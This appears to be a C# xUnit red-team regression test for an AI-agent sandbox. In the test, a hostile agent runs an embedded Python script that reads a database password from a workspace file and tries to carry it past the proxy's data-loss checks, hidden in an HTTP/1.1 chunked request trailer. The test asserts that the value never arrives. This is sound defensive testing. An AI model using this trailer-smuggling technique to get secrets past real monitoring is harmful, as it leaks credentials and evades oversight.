using System.Text;
using Vibedom.Testing;
using Vibedom.Testing.Network;
using Xunit;

namespace Vibedom.IntegrationTests.RedTeam;

/// <summary>
/// Red team (redteam5): the hostile agent inside `vibedom run` tries to get a workspace secret (a value the pre-flight
/// found) or PII out to an ALLOWED host unscrubbed, using only encodings and framings docs/SECURITY.md says DLP covers.
/// Real binary, real sandbox, real clients (curl, Python's urllib); the loopback upstream records what it receives.
/// Here: HTTP framing DLP does not read (an attack that failed, kept as a regression).
/// </summary>
public sealed class RedTeamDlpFramingTests
{
    /// <summary>
    /// An HTTP/1.1 chunked request's trailer field (after the body) holding a workspace value: DLP reads headers and the
    /// body, never request trailers, and the proxy's upstream client cannot send them, so they are dropped (over HTTP/2
    /// too: Vibedom.Proxy.Tests' <c>RequestTrailerTests</c>).
    /// </summary>
    [Fact]
    public async Task A_workspace_value_in_an_http1_chunked_trailer_never_reaches_the_upstream()
    {
        await using var s = await RedTeamDlp.StartAsync(("settings.ini", $"db_password = \"{TestSecrets.DbPassword}\"\n"));

        var result = await RedTeamDlp.RunAsync(s, $$"""
            python3 - <<'PY'
            import os, socket, ssl, urllib.parse
            host, port = "{{UpstreamServer.Name}}", {{s.Upstream.HttpsPort}}
            value = open("settings.ini").read().split('"')[1]
            proxy = urllib.parse.urlparse(os.environ["HTTPS_PROXY"])
            raw = socket.create_connection((proxy.hostname, proxy.port), timeout=30)
            raw.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
            head = b""
            while not head.endswith(b"\r\n\r\n"):
                head += raw.recv(1)
            tls = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"]).wrap_socket(raw, server_hostname=host)
            tls.sendall((f"POST /record/trailer HTTP/1.1\r\nHost: {host}:{port}\r\nTransfer-Encoding: chunked\r\nTrailer: X-Note\r\n"
                         f"Content-Type: text/plain\r\nConnection: close\r\n\r\n5\r\nhello\r\n0\r\nX-Note: note {value} end\r\n\r\n").encode())
            answer = b""
            while True:
                chunk = tls.recv(4096)
                if not chunk:
                    break
                answer += chunk
            print(answer.split(b"\r\n")[0].decode())
            PY
            """);

        Assert.True(result.ExitCode == 0, result.StandardError);
        Assert.Equal("hello", Encoding.UTF8.GetString(RedTeamDlp.Received(s, "/record/trailer").Body)); // the request itself went through
        foreach (var request in s.Upstream.Received)
        {
            Assert.False(request.AllText.Contains(TestSecrets.DbPassword, StringComparison.Ordinal), $"{request.Target} received the workspace value: {request.AllText}");
        }
    }
}
